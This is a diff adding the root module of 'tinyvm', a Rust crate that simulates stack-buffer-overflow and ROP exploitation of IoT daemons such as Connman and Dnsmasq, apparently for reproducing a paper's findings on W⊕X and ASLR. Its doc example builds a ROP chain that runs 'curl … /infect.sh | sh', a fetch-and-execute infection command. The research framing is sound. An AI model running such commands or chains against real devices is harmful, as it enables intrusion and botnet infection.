@@ -1,0 +1,48 @@
+//! # tinyvm — the memory-error target machine
+//!
+//! A compact model of stack-buffer-overflow exploitation in IoT daemons,
+//! faithful to the paper's attack model (§III-B):
+//!
+//! * a [`BinaryImage`] describes a vulnerable daemon: load addresses, a
+//!   ROP-gadget table, the overflow geometry, and an optional info-leak
+//!   primitive ([`catalog`] provides Connman- and Dnsmasq-like images);
+//! * a [`VulnProcess`] runs an image under a choice of [`Protections`]
+//!   (W⊕X and/or ASLR) and executes whatever a delivered input leaves in
+//!   place of the saved return address;
+//! * [`RopChainBuilder`] constructs `execlp("sh","-c",…)` chains — and
+//!   naive stack shellcode, to demonstrate why code injection fails under
+//!   W⊕X while ROP does not.
+//!
+//! The semantics reproduce the paper's findings: ROP defeats W⊕X; static
+//! chains crash under ASLR; a leak-then-rebase two-stage exploit restores a
+//! 100% infection rate (R2).
+//!
+//! # Examples
+//!
+//! ```
+//! use tinyvm::{catalog, Arch, Protections, RopChainBuilder, VulnProcess};
+//! use rand::SeedableRng;
+//! use std::sync::Arc;
+//!
+//! let image = Arc::new(catalog::connman_image(Arch::X86_64));
+//! let mut rng = rand::rngs::SmallRng::seed_from_u64(1);
+//! let mut process = VulnProcess::start(Arc::clone(&image), Protections::WX, &mut rng);
+//! let chain = RopChainBuilder::new(&image, 0)
+//!     .execlp("curl -s http://10.0.0.2/infect.sh | sh")?;
+//! assert!(process.deliver_input(&chain.encode()).is_exec());
+//! # Ok::<(), tinyvm::BuildChainError>(())
+//! ```
+
+#![warn(missing_docs)]
+#![warn(missing_debug_implementations)]
+
+pub mod catalog;
+pub mod image;
+pub mod process;
+pub mod protections;
+pub mod rop;
+
+pub use image::{Arch, BinaryImage, GadgetOp, LeakSpec, VulnSpec};
+pub use process::{CrashReason, Defense, DeliveryOutcome, VulnProcess, STACK_PAYLOAD_BASE};
+pub use protections::{ProtectionMix, Protections};
+pub use rop::{BuildChainError, RopChain, RopChainBuilder};
